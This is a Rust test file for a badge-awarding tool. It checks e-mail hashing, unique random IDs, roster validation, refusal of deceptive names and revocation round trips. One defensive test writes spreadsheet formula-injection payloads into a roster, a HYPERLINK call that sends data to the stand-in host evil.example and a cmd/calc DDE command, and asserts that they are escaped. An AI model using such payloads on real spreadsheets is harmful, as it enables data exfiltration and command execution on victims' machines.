//! `rosette award` and `rosette revoke`: e-mails never reach the site, hashes verify, random
//! values are unique, rosters are all or nothing with exact errors, revocations show in the
//! built outputs and can be undone byte for byte, and the binary says all that to the user.

use std::collections::BTreeSet;
use std::fs;
use std::path::{Path, PathBuf};

use rosette::award::{self, AwardOptions, Request, revoke};
use rosette::output::OutputFile;
use rosette::{Diagnostics, Error};
use serde_json::Value;
use sha2::{Digest, Sha256};

use crate::support::{copy_tree, fixture, golden_key, now, options, read_tree, render_diagnostics, rosette};

/// A modifiable copy of `build_golden_site` (it has keys/: awards need a status index).
fn golden_copy() -> (tempfile::TempDir, PathBuf) {
    let work = tempfile::tempdir().unwrap();
    let site = work.path().join("site");
    copy_tree(&fixture("build_golden_site"), &site);
    (work, site)
}

fn settings<'a>(site: &'a Path, mailing_list: Option<&'a Path>) -> AwardOptions<'a> {
    AwardOptions { site_dir: site, badge: "first-program", now: now(), allow_repeat: false, mailing_list, cache: None }
}

fn to_email(email: &str) -> Request {
    Request { email: Some(email.into()), ..Request::default() }
}

fn plan(site: &Path) -> Vec<OutputFile> {
    rosette::plan(&options(site), Some(&golden_key())).unwrap_or_else(|e| panic!("{e}: {e:?}")).0
}

fn json(plan: &[OutputFile], path: &str) -> Value {
    serde_json::from_slice(&plan.iter().find(|f| f.path == path).unwrap().bytes).unwrap()
}

fn sha256_hex(text: &str) -> String {
    Sha256::digest(text.as_bytes()).iter().map(|b| format!("{b:02x}")).collect()
}

#[test]
fn award_hashes_the_email_and_never_writes_it() {
    let (_work, site) = golden_copy();
    let request = Request {
        name: Some("Ada Lovelace".into()),
        public: true,
        evidence: vec!["https://example.org/ada".into()],
        narrative: Some("Built a *game*.".into()),
        ..to_email("  Ada.Lovelace@Example.ORG ")
    };
    let awarded = award::award(&settings(&site, None), &[request], Diagnostics::default()).unwrap();
    let [new] = awarded.awards.as_slice() else { panic!("{awarded:?}") };
    assert_eq!(new.email.as_deref(), Some("ada.lovelace@example.org"));
    assert_eq!(new.page_url, format!("https://harbour-club.example/badges/awards/{}/", new.id));
    let text = fs::read_to_string(site.join(&new.file)).unwrap();
    let salt = text.lines().find_map(|l| l.strip_prefix("salt = \"")).unwrap().trim_end_matches('"');
    assert_eq!(salt.len(), 32);
    let hash = format!("sha256${}", sha256_hex(&format!("ada.lovelace@example.org{salt}")));
    assert_eq!(award::hash_email(" ADA.lovelace@example.org", salt), hash);
    assert_eq!(
        text,
        format!(
            "issued = 2026-11-27T00:00:00Z\nnarrative = \"Built a *game*.\"\nstatus_index = {}\n\n[recipient]\n\
             hash = \"{hash}\"\nsalt = \"{salt}\"\nname = \"Ada Lovelace\"\npublic = true\n\n\
             [[evidence]]\nurl = \"https://example.org/ada\"\n",
            new.status_index
        )
    );
    let plan = plan(&site);
    let credential = json(&plan, &format!("awards/{}/credential.json", new.id));
    assert_eq!(credential["credentialSubject"]["identifier"][0]["identityHash"], hash);
    assert_eq!(credential["credentialStatus"]["statusListIndex"], new.status_index.to_string());
    assert_eq!(json(&plan, &format!("awards/{}/ob2.json", new.id))["recipient"]["identity"], hash);
    let written = read_tree(&site).into_iter().chain(plan.into_iter().map(|f| (f.path, f.bytes)));
    for (path, bytes) in written {
        let text = String::from_utf8_lossy(&bytes).to_lowercase();
        assert!(!text.contains("ada.lovelace@example.org"), "{path} holds the recipient's e-mail");
    }
}

#[test]
fn award_draws_unique_random_ids_salts_and_indexes() {
    let (work, site) = golden_copy();
    let roster = work.path().join("roster.csv");
    let rows: String = (0..60).map(|i| format!("person{i}@example.org\n")).collect();
    fs::write(&roster, format!("email\n{rows}")).unwrap();
    let read = award::roster::read(&roster, &site).unwrap();
    let list = work.path().join("mailing.csv");
    let awarded = award::award(&settings(&site, Some(&list)), &read.requests, read.problems).unwrap();
    let again = Request { ..to_email("person0@example.org") };
    let repeat = AwardOptions { allow_repeat: true, ..settings(&site, None) };
    let second = award::award(&repeat, &[again], Diagnostics::default()).unwrap();
    let all: Vec<_> = awarded.awards.iter().chain(&second.awards).collect();
    let ids: BTreeSet<&str> = all.iter().map(|a| a.id.as_str()).collect();
    assert_eq!(ids.len(), 61, "ids are unique");
    assert!(ids.iter().all(|id| id.len() == 10 && id.bytes().all(|b| b.is_ascii_lowercase() || b.is_ascii_digit())));
    let indexes: BTreeSet<u32> = all.iter().map(|a| a.status_index).collect();
    assert_eq!(indexes.len(), 61, "indexes are unique");
    assert!(indexes.is_disjoint(&BTreeSet::from([1007, 2007, 3007, 4007])), "used indexes are never drawn");
    let spread = indexes.last().unwrap() - indexes.first().unwrap();
    assert!(spread > 65_536, "indexes are drawn at random over the whole list, not in sequence: {indexes:?}");
    let salts: BTreeSet<String> = all
        .iter()
        .map(|a| fs::read_to_string(site.join(&a.file)).unwrap())
        .map(|text| text.lines().find_map(|l| l.strip_prefix("salt = ")).unwrap().to_string())
        .collect();
    assert_eq!(salts.len(), 61, "salts are unique, so the same person gets a different hash each time");
    assert!(second.warnings[0].to_string().contains("`person0@example.org` already holds this badge"));
    let mut mailing = csv::Reader::from_path(&list).unwrap();
    assert_eq!(mailing.headers().unwrap(), vec!["email", "name", "award_id", "award_url", "credential_url", "message"]);
    let rows: Vec<csv::StringRecord> = mailing.records().map(Result::unwrap).collect();
    assert_eq!(rows.len(), 60);
    assert_eq!(&rows[7][0], "person7@example.org");
    assert_eq!(rows[7][3], awarded.awards[7].page_url);
    assert!(rows[7][5].contains(&awarded.awards[7].page_url) && rows[7][5].contains("Add to LinkedIn"));
    rosette::check(&options(&site)).unwrap();
}

#[test]
fn award_roster_reports_every_bad_row_and_writes_nothing() {
    let (work, site) = golden_copy();
    let before = read_tree(&site);
    let roster = fixture("award_roster_reports_every_bad_row_and_writes_nothing").join("roster.csv");
    let list = work.path().join("mailing.csv");
    let read = award::roster::read(&roster, &site).unwrap();
    let Err(Error::Invalid(diagnostics)) = award::award(&settings(&site, Some(&list)), &read.requests, read.problems)
    else {
        panic!("the roster should be refused")
    };
    let at = "award_roster_reports_every_bad_row_and_writes_nothing/roster.csv";
    let expected = [
        ":3:1: error: email: `grace@example` is not a valid e-mail address\n  help: write it as name@example.org",
        ":4:1: error: email: `ada@example.org` is also on line 2\n  help: remove one of the rows: a run gives each recipient one award",
        ":5:3: error: public: there is no name to show\n  help: give the recipient's name, or leave the award private",
        ":6:3: error: public: `maybe` is neither true nor false\n  help: write true if the recipient agreed to show their name, false (or nothing) if not",
        ":6:4: error: evidence: `ftp://example.org/x` is not a valid web address\n  help: write a full URL starting with https:// (or http://)",
        ":7:6: error: issued: `2025-02-30` is not a valid date\n  help: write a date like 2025-03-14 or 2025-03-14T10:00:00Z",
        ":8:5: error: narrative: award text contains the e-mail address `katherine@example.org`\n  help: award pages are public; remove the address",
        ":8:7: error: expires: the award expires before it was issued\n  help: give an expiry date after the issue date 2025-03-01T00:00:00Z, or none",
        ":9:7: error: the row has 6 cells, the header has 7\n  help: put a value (or nothing) between commas for every column; quote cells holding commas: \"a, b\"",
        ":11:6: error: issued: issued date 2030-01-01T00:00:00Z is in the future\n  help: verifiers refuse awards issued in the future; use the date the badge was earned",
    ];
    let expected: String = expected.iter().map(|line| format!("{at}{line}\n")).collect();
    assert_eq!(render_diagnostics(&diagnostics), expected);
    assert_eq!(read_tree(&site), before, "nothing was written to the site");
    assert!(!list.exists(), "no mailing list either");

    let header = fixture("award_roster_reports_every_bad_row_and_writes_nothing").join("header.csv");
    let Err(Error::Invalid(diagnostics)) = award::roster::read(&header, &site) else { panic!("bad header accepted") };
    let at = "award_roster_reports_every_bad_row_and_writes_nothing/header.csv:1";
    assert_eq!(
        render_diagnostics(&diagnostics),
        format!(
            "{at}:1: error: unknown column `emial`\n  help: did you mean `email`?\n\
             {at}:3: error: unknown column `Public`\n  help: did you mean `public`?\n\
             {at}:4: error: column 4 has no name\n  help: name it: email, name, public, evidence, narrative, issued, expires (only email is required)\n\
             {at}:5: error: unknown column `colour`\n  help: the columns are: email, name, public, evidence, narrative, issued, expires (only email is required)\n\
             {at}:6: error: column `name` appears twice\n  help: it is also column 2; keep one\n"
        )
    );
}

#[test]
fn award_refuses_personal_data_inside_the_site_and_rolls_back_when_check_fails() {
    let (_work, site) = golden_copy();
    fs::write(site.join("roster.csv"), "email\nada@example.org\n").unwrap();
    let inside = award::roster::read(&site.join("roster.csv"), &site).unwrap_err().to_string();
    assert!(inside.starts_with("the roster ") && inside.contains("is inside the site folder"), "{inside}");
    fs::remove_file(site.join("roster.csv")).unwrap();
    let list = site.join("static/mailing.csv");
    let refused = award::award(&settings(&site, Some(&list)), &[to_email("a@example.org")], Diagnostics::default());
    assert!(refused.unwrap_err().to_string().contains("must never be committed or published"));
    // A site that does not pass `rosette check` gets no new award: the file is removed again.
    let broken = site.join("awards/team-player/u7v8w9x0y1.toml");
    fs::write(&broken, fs::read_to_string(&broken).unwrap().replace("[recipient]", "colour = 1\n[recipient]")).unwrap();
    let before = read_tree(&site);
    let Err(Error::Invalid(diagnostics)) =
        award::award(&settings(&site, None), &[to_email("a@example.org")], Diagnostics::default())
    else {
        panic!("a broken site accepted a new award")
    };
    assert!(diagnostics[0].to_string().ends_with(
        "warning: nothing was awarded: the site must pass `rosette check` with the new award, and it does not"
    ));
    assert!(diagnostics[1].to_string().contains("u7v8w9x0y1.toml:5:1: error: unknown key `colour`"), "{diagnostics:?}");
    assert_eq!(read_tree(&site), before);
}

/// `award` refuses what `check` would refuse in the file it writes: a deceptive name, an
/// address hidden in an evidence link; nothing is written.
#[test]
fn award_applies_the_model_rules_for_names_and_links() {
    let (_work, site) = golden_copy();
    let before = read_tree(&site);
    let request = Request {
        name: Some("Ada \u{202E}ecalevol".into()),
        public: true,
        evidence: vec!["https://example.org/work?from=ada%40example.org".into()],
        ..to_email("ada@example.org")
    };
    let Err(Error::Invalid(diagnostics)) = award::award(&settings(&site, None), &[request], Diagnostics::default())
    else {
        panic!("a deceptive name was awarded")
    };
    let shown: Vec<String> = diagnostics.iter().map(ToString::to_string).collect();
    assert_eq!(
        shown,
        [
            "--evidence: error: the URL contains the e-mail address `ada@example.org`\n  help: award pages are public; remove the address from the link",
            "--name: error: the name contains the bidirectional control character U+202E\n  help: remove it: such characters reorder the text shown and can disguise a name",
        ]
    );
    assert_eq!(read_tree(&site), before);
}

#[test]
fn revoke_and_undo_change_the_built_outputs() {
    let (_work, site) = golden_copy();
    let file = site.join("awards/first-program/h4x9k2m7qa.toml");
    let original = format!("# Keep this comment.\n{}", fs::read_to_string(&file).unwrap());
    fs::write(&file, &original).unwrap();
    let untouched = plan(&site);
    let changed = revoke::revoke(&site, "h4x9k2m7qa", " Awarded twice. ", Some("2026-01-15"), now(), None).unwrap();
    assert_eq!(changed.file, "awards/first-program/h4x9k2m7qa.toml");
    let revoked = fs::read_to_string(&file).unwrap();
    assert_eq!(revoked, format!("{original}\n[revoked]\ndate = 2026-01-15\nreason = \"Awarded twice.\"\n"));
    let plan_revoked = plan(&site);
    let assertion = json(&plan_revoked, "awards/h4x9k2m7qa/ob2.json");
    assert_eq!(assertion["revoked"], true);
    assert_eq!(assertion["revocationReason"], "Awarded twice.");
    assert!(assertion.get("recipient").is_none(), "a revoked stub: {assertion}");
    let list = json(&plan_revoked, "issuers/harbour/revocations.json");
    assert!(
        list["revokedAssertions"].as_array().unwrap().iter().any(|r| r["id"].as_str().unwrap().contains("h4x9k2m7qa"))
    );
    let bits = json(&plan_revoked, "issuers/harbour/status.json");
    let encoded = bits["credentialSubject"]["encodedList"].as_str().unwrap();
    assert!(rosette::credential::status::bit(encoded, 1007).unwrap(), "status bit 1007 is set");

    let again = revoke::revoke(&site, "h4x9k2m7qa", "Again.", None, now(), None).unwrap_err().to_string();
    assert_eq!(
        again,
        "award `h4x9k2m7qa` is already revoked (2026-01-15: \"Awarded twice.\"); to change the date or reason, undo it first with `rosette revoke h4x9k2m7qa --undo`, then revoke it again"
    );
    revoke::undo(&site, "h4x9k2m7qa", now(), None).unwrap();
    assert_eq!(fs::read_to_string(&file).unwrap(), original, "undo restores the file byte for byte");
    assert!(plan(&site) == untouched, "and the outputs");
    let nothing = revoke::undo(&site, "h4x9k2m7qa", now(), None).unwrap_err().to_string();
    assert_eq!(nothing, "award `h4x9k2m7qa` is not revoked: there is nothing to undo");
    let future =
        revoke::revoke(&site, "h4x9k2m7qa", "Later.", Some("2027-01-01"), now(), None).unwrap_err().to_string();
    assert!(future.starts_with("--date 2027-01-01T00:00:00Z is in the future"), "{future}");
    let missing = revoke::revoke(&site, "nope", "x", None, now(), None).unwrap_err().to_string();
    assert!(missing.starts_with("there is no award `nope` in "), "{missing}");
}

#[test]
fn award_cli_prints_the_page_and_a_message_and_revoke_cli_round_trips() {
    let (_work, site) = golden_copy();
    let dir = site.to_str().unwrap();
    let args = ["award", "team-player", "--site", dir, "--email", "Grace@Example.org", "--name", "Grace Hopper"];
    let output =
        rosette(&[&args[..], &["--evidence", "https://example.org/a", "--evidence", "https://example.org/b"]].concat());
    let (stdout, stderr) = (String::from_utf8_lossy(&output.stdout), String::from_utf8_lossy(&output.stderr));
    assert!(output.status.success(), "{stderr}");
    let page = stdout.lines().next().unwrap();
    let id = page.strip_prefix("https://harbour-club.example/badges/awards/").unwrap().trim_end_matches('/');
    assert!(
        stdout.contains(
            "To: grace@example.org\nSubject: Your badge \"Team Player\" from Harbour Coding Club\n\nHello Grace Hopper,"
        ),
        "{stdout}"
    );
    assert!(
        stdout.contains("press \"Add to LinkedIn\"") && stdout.contains(&format!("{page}credential.json")),
        "{stdout}"
    );
    assert!(stdout.contains("Learner Credential Wallet"), "{stdout}");
    assert!(stderr.contains(&format!("wrote {dir}/awards/team-player/{id}.toml (status index ")), "{stderr}");
    assert!(fs::read_to_string(site.join(format!("awards/team-player/{id}.toml"))).unwrap().contains("[[evidence]]"));
    assert!(rosette(&["check", "--site", dir]).status.success());

    let repeat = rosette(&args);
    assert_eq!(repeat.status.code(), Some(1));
    assert!(String::from_utf8_lossy(&repeat.stderr).starts_with(&format!(
        "--email: error: `grace@example.org` already holds this badge (award {id})\n  help: if this is on purpose (a renewal, say), add --allow-repeat\nerror: 1 problem found; nothing was written"
    )));
    let revoked = rosette(&["revoke", id, "--site", dir, "--reason", "Wrong person."]);
    assert!(revoked.status.success(), "{}", String::from_utf8_lossy(&revoked.stderr));
    assert_eq!(
        String::from_utf8_lossy(&revoked.stdout),
        format!("revoked award {id} as of 2026-11-27T00:00:00Z: \"Wrong person.\"\n")
    );
    let twice = rosette(&["revoke", id, "--site", dir, "--reason", "Again."]);
    assert_eq!(twice.status.code(), Some(1));
    assert!(String::from_utf8_lossy(&twice.stderr).contains("--undo"));
    let undone = rosette(&["revoke", id, "--site", dir, "--undo"]);
    assert!(undone.status.success());
    assert!(String::from_utf8_lossy(&undone.stderr).contains("prefer a new award"));
    let usage = rosette(&["award", "team-player", "--site", dir, "--roster", "x.csv"]);
    assert_eq!(usage.status.code(), Some(2), "a roster needs --mailing-list");
}

#[test]
fn award_roster_formulas_reach_the_mailing_list_as_text() {
    let (work, site) = golden_copy();
    let roster = work.path().join("roster.csv");
    let rows = [
        ("=1+1@example.org", "=HYPERLINK(\"\"https://evil.example/?\"\"&A1,\"\"Click\"\")"),
        ("mallory@example.org", "@SUM(1+1)"),
        ("+x@example.org", "+cmd|' /C calc'!A0"),
        ("-y@example.org", "-2+3"),
        ("plain@example.org", "Ada Lovelace"),
    ];
    let text: String = rows.iter().map(|(email, name)| format!("\"{email}\",\"{name}\"\n")).collect();
    fs::write(&roster, format!("email,name\n{text}")).unwrap();
    let list = work.path().join("mailing.csv");
    let args = ["award", "first-program", "--site", site.to_str().unwrap(), "--roster", roster.to_str().unwrap()];
    let output = crate::support::rosette_command()
        .args(args)
        .args(["--mailing-list", list.to_str().unwrap()])
        .env("SOURCE_DATE_EPOCH", "1795737600")
        .output()
        .unwrap();
    assert!(output.status.success(), "{}", String::from_utf8_lossy(&output.stderr));
    let mut mailing = csv::Reader::from_path(&list).unwrap();
    let cells: Vec<(String, String)> =
        mailing.records().map(Result::unwrap).map(|r| (r[0].to_string(), r[1].to_string())).collect();
    assert_eq!(
        cells,
        [
            ("'=1+1@example.org", "'=HYPERLINK(\"https://evil.example/?\"&A1,\"Click\")"),
            ("mallory@example.org", "'@SUM(1+1)"),
            ("'+x@example.org", "'+cmd|' /C calc'!A0"),
            ("'-y@example.org", "'-2+3"),
            ("plain@example.org", "Ada Lovelace"),
        ]
        .map(|(email, name)| (email.to_string(), name.to_string()))
    );
    // Nothing in the file starts a cell with a formula character, quoted or not.
    let raw = fs::read_to_string(&list).unwrap();
    for start in [",=", ",+", ",-", ",@", "\n=", "\n+", "\n-", "\n@", ",\"=", ",\"+", ",\"-", ",\"@", "\n\"="] {
        assert!(!raw.contains(start), "a cell starts with {start:?}:\n{raw}");
    }
}
